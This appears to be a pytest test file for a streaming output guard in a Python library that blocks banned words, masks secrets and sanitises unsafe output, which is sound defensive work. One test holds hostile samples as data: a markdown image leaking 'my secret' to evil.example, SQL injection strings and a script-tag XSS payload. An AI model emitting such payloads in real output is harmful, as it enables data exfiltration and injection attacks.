"""A streamed answer under a guard: nothing bad leaves, whatever the pieces; what is fine leaves as it was."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Iterator, Sequence
from typing import Any

import pytest
from guard_kit import DoingRail, WordRail
from hypothesis import given, settings
from hypothesis import strategies as st

from ragloom.errors import UsageError
from ragloom.guarding import Finding, Guard
from ragloom.guardrails import InsecureOutputRail, RailsGuard, SecretsRail, ascreen_stream, screen_stream
from ragloom.guardrails.streaming import MOST_HELD

KEY = "ghp_0123456789abcdefghijABCDEFGHIJ012345"


class Direct:
    """A guard of one rail, without threads."""

    def __init__(self, rail: Any) -> None:
        self.rail = rail

    def check(self, stage: Any, texts: Sequence[str], context: Any = None) -> list[Finding]:
        found: list[Finding] = self.rail.check(stage, texts, context or {})
        return found

    async def acheck(self, stage: Any, texts: Sequence[str], context: Any = None) -> list[Finding]:
        await asyncio.sleep(0)
        return self.check(stage, texts, context)


class Source:
    """Pieces, one after the other, by both doors; knows how far it was read and whether it was closed."""

    def __init__(self, pieces: Sequence[str], error: Exception | None = None) -> None:
        self.pieces, self.error = pieces, error
        self.read = 0
        self.closed = False

    def __iter__(self) -> Iterator[str]:
        try:
            for piece in self.pieces:
                self.read += 1
                yield piece
            if self.error:
                raise self.error
        finally:
            self.closed = True

    async def __aiter__(self) -> AsyncIterator[str]:
        for piece in self:
            yield piece


async def all_of(pieces: Sequence[str], guard: Guard, hold: int) -> tuple[str, Finding | None]:
    source = Source(pieces)
    stream = ascreen_stream(source, guard, {"question": "q"}, hold=hold)
    left = [piece async for piece in stream]
    assert source.closed and "".join(left) == stream.text and "" not in left
    return stream.text, stream.finding


def streamed(pieces: Sequence[str], guard: Guard, *, hold: int = 1) -> tuple[str, Finding | None]:
    """What left and what cut it, the same by both doors."""
    source = Source(pieces)
    stream = screen_stream(source, guard, {"question": "q"}, hold=hold)
    left = list(stream)
    assert source.closed and "".join(left) == stream.text and "" not in left
    assert asyncio.run(all_of(pieces, guard, hold)) == (stream.text, stream.finding)
    return stream.text, stream.finding


def cut(text: str, sizes: Sequence[int]) -> list[str]:
    pieces = []
    for size in sizes:
        pieces.append(text[:size])
        text = text[size:]
    return [*pieces, text]


SENTENCES = st.lists(
    st.sampled_from(
        ["Staff get 25 days.", "Dr. Wu said so!", "Is it e.g. this?", "- an item\n", "A line\n\n", "它是这样。",
         "no end",
         "```py\nx = 1. \n\nA = 2.\n```\n", "😀 Yes. ", "It costs 3.5 $. "]
    ),
    max_size=8,
)  # fmt: skip
SIZES = st.lists(st.integers(0, 12), max_size=40)


@settings(max_examples=80)
@given(SENTENCES, SIZES, st.integers(0, 3), st.sampled_from([" ", "\n", ""]))
def test_a_clean_text_leaves_unchanged(sentences: list[str], sizes: list[int], hold: int, between: str) -> None:
    text = between.join(sentences)
    assert streamed(cut(text, sizes), Direct(WordRail("BAD")), hold=hold) == (text, None)


@settings(max_examples=80)
@given(SENTENCES, SENTENCES, SIZES, st.integers(0, 3), st.sampled_from(["BAD", "it is BAD stuff", "BAD one. BAD two"]))
def test_of_a_bad_text_nothing_leaves(
    before: list[str], after: list[str], sizes: list[int], hold: int, bad: str
) -> None:
    safe = " ".join(before)
    text = f"{safe} {bad} {' '.join(after)}"
    left, finding = streamed(cut(text, sizes), Direct(WordRail(bad)), hold=hold)
    assert finding is not None and finding.verdict == "block"
    spans_an_end = "." in bad
    if hold or not spans_an_end:
        assert f"{safe} ".startswith(left)  # not even its beginning
    else:  # told by its second half: the first was a sentence of its own
        assert bad not in left and f"{safe} BAD one. ".startswith(left)


@settings(max_examples=50)
@given(SENTENCES, SENTENCES, SIZES, st.integers(0, 2))
def test_a_secret_is_masked_as_in_the_whole_text(
    before: list[str], after: list[str], sizes: list[int], hold: int
) -> None:
    text = f"{' '.join(before)} Your key is {KEY} now. {' '.join(after)}"
    left, finding = streamed(cut(text, sizes), Direct(SecretsRail()), hold=hold)
    assert finding is None and left == text.replace(KEY, "<GITHUB_TOKEN>")


def test_a_sentence_leaves_as_soon_as_the_next_is_whole() -> None:
    source = Source(["One is", " here. Two", " is here", ". Three", " is here. F", "our"])
    left = [(piece, source.read) for piece in screen_stream(source, Direct(WordRail("BAD")))]
    assert left == [("One is here. ", 4), ("Two is here. ", 5), ("Three is here. Four", 6)]
    source = Source(["One is", " here. Two", " is here", ". Three"])
    left = [(piece, source.read) for piece in screen_stream(source, Direct(WordRail("BAD")), hold=0)]
    assert left == [("One is here. ", 2), ("Two is here. ", 4), ("Three", 4)]


def test_the_source_is_closed_at_the_cut_and_not_read_further() -> None:
    source = Source(["Fine. ", "Fine. ", "BAD. ", "Fine. ", "More. ", "Never. ", "Read."])
    stream = screen_stream(source, RailsGuard([WordRail("BAD", name="words", score=0.9)]))
    assert "".join(stream) == "Fine. " and source.closed and source.read == 4
    assert stream.finding is not None
    assert (stream.finding.rail, stream.finding.reason, stream.finding.score) == ("words", "a word of 3", 0.9)
    assert list(stream) == []


def test_code_is_one_sentence_and_stays_code() -> None:
    code = "Do this:\n\n```sql\nSELECT 1; DROP TABLE x;\n\n'; DROP TABLE y; --\nA. B. C. D.\n```\n\nThat is all. Bye."
    assert streamed(list(code), Direct(InsecureOutputRail()), hold=0) == (code, None)
    text = "Look. Here ![x](https://evil.example/?q=my+secret). And <script>alert(1)</script> more."
    left, finding = streamed(list(text), Direct(InsecureOutputRail()))
    assert (left, finding) == ("Look. Here x. And &lt;script>alert(1)&lt;/script> more.", None)


def test_a_change_across_the_end_of_a_sentence_keeps_both_back() -> None:
    text = "All is well. The end. Of it all. Yes. No."
    left, finding = streamed(list(text), Direct(WordRail("end. Of", "start of")))
    assert (left, finding) == ("All is well. The start of it all. Yes. No.", None)


def test_what_was_said_cannot_be_changed() -> None:
    left, finding = streamed(list("The end. Of it all. Yes. No."), Direct(WordRail("end. Of", "start of")), hold=0)
    assert left == "The end. " and finding is not None
    assert (finding.verdict, finding.reason) == ("block", "a word of 7")


def test_a_sentence_of_which_nothing_is_left_is_left_out() -> None:
    left, finding = streamed(list("One. Two! Three."), Direct(WordRail("Two! ", "")))
    assert (left, finding) == ("One. Three.", None)


def test_a_text_without_an_end_is_not_held_for_ever() -> None:
    source = Source(["word " * 100] * 40)
    left = [(piece, source.read) for piece in screen_stream(source, Direct(WordRail("BAD")))]
    assert "".join(piece for piece, _ in left) == "word " * 4000
    assert all(len(piece) <= MOST_HELD + 500 for piece, _ in left) and left[0][1] < 20


def failing(texts: Any) -> Any:
    raise ValueError("a secret")


@pytest.mark.parametrize("do", [failing, lambda texts: [], lambda texts: [Finding("fine", text) for text in texts]])  # type: ignore[arg-type]
def test_a_guard_that_fails_lets_nothing_out(do: Any) -> None:
    left, finding = streamed(["One. ", "Two. ", "Three."], Direct(DoingRail(do)))
    assert left == "" and finding is not None and finding.verdict == "block" and finding.rail == "guard"
    assert "secret" not in finding.reason


def test_a_source_that_fails_says_so_and_what_was_held_is_not_said() -> None:
    source = Source(["One. ", "Two. ", "Three. ", "Four"], error=OSError("gone"))
    stream = screen_stream(source, Direct(WordRail("BAD")))
    with pytest.raises(OSError, match="gone"):
        list(stream)
    assert stream.text == "One. Two. " and stream.finding is None


def test_closing_the_stream_closes_the_source() -> None:
    source = Source(["One. ", "Two. ", "Three. ", "Four. "])
    stream = screen_stream(source, Direct(WordRail("BAD")))
    assert next(stream) == "One. "
    stream.close()
    assert source.closed and list(stream) == []

    async def aclosed() -> bool:
        source = Source(["One. ", "Two. ", "Three. ", "Four. "])
        stream = ascreen_stream(source, Direct(WordRail("BAD")))
        assert await anext(stream) == "One. "
        await stream.aclose()
        return source.closed and [piece async for piece in stream] == []

    assert asyncio.run(aclosed())


def test_wrong_use_is_refused() -> None:
    with pytest.raises(UsageError, match="hold"):
        screen_stream([], Direct(WordRail("BAD")), hold=-1)
    with pytest.raises(UsageError, match="piece"):
        list(screen_stream([b"bytes"], Direct(WordRail("BAD"))))  # type: ignore[list-item]
